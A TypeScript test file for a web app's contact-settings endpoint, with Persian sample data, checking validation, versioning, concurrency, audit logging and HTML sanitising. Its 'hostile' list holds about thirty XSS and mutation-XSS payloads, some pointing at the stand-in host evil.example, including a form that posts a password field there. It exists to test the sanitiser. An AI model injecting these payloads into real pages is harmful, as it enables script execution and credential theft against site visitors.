/** The public contact data and the rules for consent (S2 "Contact settings", §5; GAP1). */
import fc from 'fast-check'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { Sent } from '#contract/kernel/call.ts'
import { contact } from '#contract/messaging/contact.ts'
import { contactWords as words } from '#contract/messaging/contact-words.ts'
import { shapeWords } from '#contract/kernel/shape-words.ts'
import { contactFaults } from '#contract/messaging/contact-rules.ts'
import { cleanHtml } from '#server/modules/messaging/contact/clean.ts'
import { platformContact } from '#server/modules/messaging/contact/index.ts'
import { makeContact } from '#server/platform/demo/organisations/contact.ts'
import { openWorld, type Person, type World } from '../world.ts'

let world: World
let admin: Person
beforeAll(async () => {
  world = await openWorld()
  admin = await world.person('admin', { role: 'Admin' })
})
afterAll(async () => expect(await world.close()).toEqual([]))

const whole: Sent<typeof contact.update> = {
  ContactId: 1,
  Name: 'بارنوبت',
  SupportTell: '۰۲۱۹۱۰۰۱۲۳۴',
  Tell: '02188880000',
  Mobile: '09121234567',
  Fax: '02188880001',
  Email: 'info@barnobat.ir',
  Site: 'https://barnobat.ir',
  Address: 'تهران، میدان آزادی',
  Rules: '<h2>قوانین</h2><p>یک</p>',
}
const update = (change: Partial<typeof whole>, headers?: Record<string, string>) =>
  admin.say(contact.update, { ...whole, ...change }, headers)
const countVersions = async () => (await world.db.selectFrom('contact').select('version').execute()).length
const readNewest = async () => (await world.stranger.say(contact.get, {})).data!

test('returns none before the first is saved', async () => {
  expect(await world.stranger.say(contact.get, {})).toMatchObject({ status: 200, data: null })
  expect(await platformContact(world.db)).toBeNull()
})

test('requires a name; returns invalid mail and site addresses at their fields at once', async () => {
  const { status, errors } = await update({ Name: '  ', Email: 'info@', Site: 'javascript:alert(1)' })
  expect(status).toBe(422)
  expect(errors).toEqual({ Name: words.name, Email: words.email, Site: words.site })
  expect(await countVersions()).toBe(0)
})

test.each([
  ['Name', 'ن'.repeat(151), shapeWords.tooLong(150)],
  ['SupportTell', '9'.repeat(12), shapeWords.tooLong(11)],
  ['Tell', '۰۲۱ دفتر', shapeWords.onlyDigits],
  ['Mobile', '9'.repeat(12), shapeWords.tooLong(11)],
  ['Fax', 'fax', shapeWords.onlyDigits],
  ['Email', 'a'.repeat(101), shapeWords.tooLong(100)],
  ['Site', 'a'.repeat(201), shapeWords.tooLong(200)],
  ['Address', 'ا'.repeat(551), shapeWords.tooLong(550)],
  ['Rules', 'ا'.repeat(100_001), shapeWords.tooLong(100_000)],
])('%s has a maximum length', async (field, value, sentence) => {
  const { status, errors } = await update({ [field]: value })
  expect(status).toBe(400)
  expect(errors).toEqual({ [field]: sentence })
})

test('returns to the public what was saved, in the specified spelling', async () => {
  const { status, message } = await update({})
  expect(status).toBe(200)
  expect(message).toBe(words.saved)
  expect(await readNewest()).toEqual({
    contactId: 1,
    name: 'بارنوبت',
    suportTell: '02191001234',
    tell: '02188880000',
    mobile: '09121234567',
    fax: '02188880001',
    email: 'info@barnobat.ir',
    site: 'https://barnobat.ir',
    address: 'تهران، میدان آزادی',
    rules: '<h2>قوانین</h2><p>یک</p>',
    rulesVersion: 1,
    version: 1,
    changedAt: world.clock.now.toISOString(),
  })
  // The footer of printed permits.
  expect(await platformContact(world.db)).toEqual({ name: 'بارنوبت', tell: '02191001234' })
})

test('increments the version of the rules only when the rules change', async () => {
  await update({ Name: 'بارنوبت ایران' }, { 'If-Match': '1' })
  expect(await readNewest()).toMatchObject({ version: 2, rulesVersion: 1 })
  // The same rules in another spelling.
  await update({ Rules: ' <H2 onclick="x()">قوانین</H2><p>یک</p><script>x</script> ' }, { 'If-Match': '2' })
  expect(await readNewest()).toMatchObject({ version: 3, rulesVersion: 1 })
  await update({ Rules: '<p>دو</p>' }, { 'If-Match': '3' })
  expect(await readNewest()).toMatchObject({ version: 4, rulesVersion: 2 })
})

test('rejects a change based on an older version', async () => {
  const before = await readNewest()
  const { status, reason, message } = await update({ Name: 'دیگری' }, { 'If-Match': '1' })
  expect({ status, reason, message }).toEqual({ status: 409, reason: 'stale-version', message: words.stale })
  expect(await readNewest()).toEqual(before)
})

test('accepts one of ten simultaneous changes of the same version', async () => {
  const { version } = await readNewest()
  const answers = await Promise.all(
    Array.from({ length: 10 }, (_, i) => update({ Name: `نام ${i}` }, { 'If-Match': String(version) })),
  )
  expect(answers.map(({ status }) => status).toSorted()).toEqual([200, ...Array.from({ length: 9 }, () => 409)])
  expect((await readNewest()).version).toBe(version + 1)
})

test('records each version with its author and keeps it', async () => {
  await update({ Name: 'نامی دیگر', Rules: '<p>سه</p>' })
  await update({ Name: 'بارنوبت', Rules: '<p>چهار</p>' })
  const { version, rulesVersion } = await readNewest()
  const events = await world.db.selectFrom('audit_event').selectAll().where('call', '=', 'contact.update').orderBy('id').execute()
  expect(events).toHaveLength(version)
  expect(events.at(-1)).toMatchObject({
    member_id: admin.id,
    role: 'Admin',
    entity: 'contact',
    entity_id: '1',
    detail: {
      version,
      before: { Name: 'نامی دیگر', rulesVersion: rulesVersion - 1 },
      after: { Name: 'بارنوبت', rulesVersion },
    },
  })
  expect(await countVersions()).toBe(version)
})

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)" onmouseover=alert(1) style="background:url(javascript:alert(1))">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<style>@import "//evil.example/x.css";*{color:red}</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<iframe src="//evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data=x></object><embed src=x><base href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example">',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<textarea><script>alert(1)</script></textarea><xmp><script>alert(1)</script></xmp>',
  '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>',
  '<template><script>alert(1)</script></template><marquee onstart=alert(1)>',
  '<a target=_blank rel=opener id=x class=y href="https://example.ir">x</a>',
]

/** Returns every tag of an HTML text with its attributes. */
const tagsOf = (html: string) => [...html.matchAll(/<\/?([a-z0-9]+)((?:\s[^>]*)?)\/?>/gi)]
const plain = /^(h[2-4]|p|br|ul|ol|li|strong|b|em|i|a|blockquote|hr)$/

function expectHarmless(html: string) {
  for (const [whole, name, rest] of tagsOf(html)) {
    expect(name, whole).toMatch(plain)
    expect(rest, whole).toMatch(
      /^(\s*\/?| href="(https?:|tel:|mailto:|[#/](?!\/))[^"<>]*"( rel="noopener noreferrer nofollow")?| rel="noopener noreferrer nofollow")$/,
    )
  }
  // A stray angle bracket is text.
  expect(html.replace(/<\/?[a-z][^>]*>/gi, '')).not.toMatch(/[<>]/)
}

test.each(hostile)('removes from %s everything that runs or loads', async (html) => {
  const cleaned = cleanHtml(html)
  expectHarmless(cleaned)
  expect(cleanHtml(cleaned)).toBe(cleaned)
  expectHarmless((await update({ Rules: html })).data!.rules)
})

test('keeps links to pages, phones and mailboxes; lowers page headings', () => {
  expect(cleanHtml('<h1>قوانین</h1><a href="https://barnobat.ir/a?b=1&amp;c=2">الف</a><a href="tel:02191001234">ب</a>')).toBe(
    '<h2>قوانین</h2><a href="https://barnobat.ir/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">الف</a><a href="tel:02191001234" rel="noopener noreferrer nofollow">ب</a>',
  )
})

/** The first pass leaves what parses differently in a second one. */
const twice = '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'

test('sanitises any mix of hostile parts, and is idempotent', () => {
  const part = fc.oneof(
    fc.constantFrom(...hostile),
    fc.string({ maxLength: 20 }),
    fc.constantFrom('<', '>', '"', '</', '&lt;', '<p', '-->'),
  )
  fc.assert(
    fc.property(fc.array(part, { maxLength: 8 }), (parts) => {
      const cleaned = cleanHtml(parts.join(''))
      expectHarmless(cleaned)
      expect(cleanHtml(cleaned)).toBe(cleaned)
    }),
    { numRuns: 300, examples: [[[twice, twice]]] },
  )
})

test('stores the demo’s rules unchanged, and its fields are valid', () => {
  const { rules, name, email, site, support_tell } = makeContact(world.clock.now)
  expect(cleanHtml(rules!)).toBe(rules)
  expectHarmless(rules!)
  expect(contactFaults({ Name: name, Email: email!, Site: site! })).toEqual({})
  expect(support_tell).toMatch(/^0\d{10}$/)
})

test('normalises a site without a scheme as a browser does', async () => {
  expect((await update({ Site: 'barnobat.ir/tamas' })).data).toMatchObject({ site: 'https://barnobat.ir/tamas' })
})
